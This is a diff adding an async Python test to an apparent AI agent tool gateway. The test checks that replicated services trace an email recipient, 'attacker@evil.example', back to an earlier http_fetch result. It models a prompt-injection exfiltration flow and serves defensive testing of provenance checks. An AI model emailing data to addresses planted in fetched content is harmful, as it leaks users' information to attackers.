@@ -197,3 +197,25 @@ async def test_without_an_index_the_policy_port_is_called_as_before() -> None:
     await service.execute(ctx, "http_fetch", '{"url": "https://hotel.example"}', "s1:0:0")
     await service.execute(ctx, "send_email", '{"to": "attacker@evil.example"}', "s1:1:0")
     assert [c.provenance for c in policy.calls] == [(), ()]
+
+
+async def test_a_replica_with_its_own_index_over_the_shared_table_sees_the_same() -> None:
+    from keel_contracts.topics import TOOL_RESULTS
+    from keel_core.testing.bus import InMemoryBus, InMemoryTable
+    from keel_tool_gateway.adapters.kafka_ledger import KafkaLedger
+
+    bus = InMemoryBus()
+    tables = [InMemoryTable(bus, TOOL_RESULTS, "tool-gateway") for _ in range(2)]
+    for table in tables:
+        await table.start()
+    policies = [StaticPolicy("allow"), StaticPolicy("allow")]
+    first, second = (
+        ExecutionService(registry(PAGE), policy, ledger, provenance=ProvenanceIndex(ledger))
+        for policy, ledger in zip(policies, [KafkaLedger(t) for t in tables], strict=True)
+    )
+    ctx = RequestContext(session_id="s1")
+    await first.execute(ctx, "http_fetch", '{"url": "https://hotel.example"}', "s1:0:0")
+    await second.execute(ctx, "send_email", '{"to": "attacker@evil.example"}', "s1:1:0")
+    assert policies[1].calls[0].provenance == (
+        Finding("$.to", "attacker@evil.example", ("http_fetch",), False),
+    )
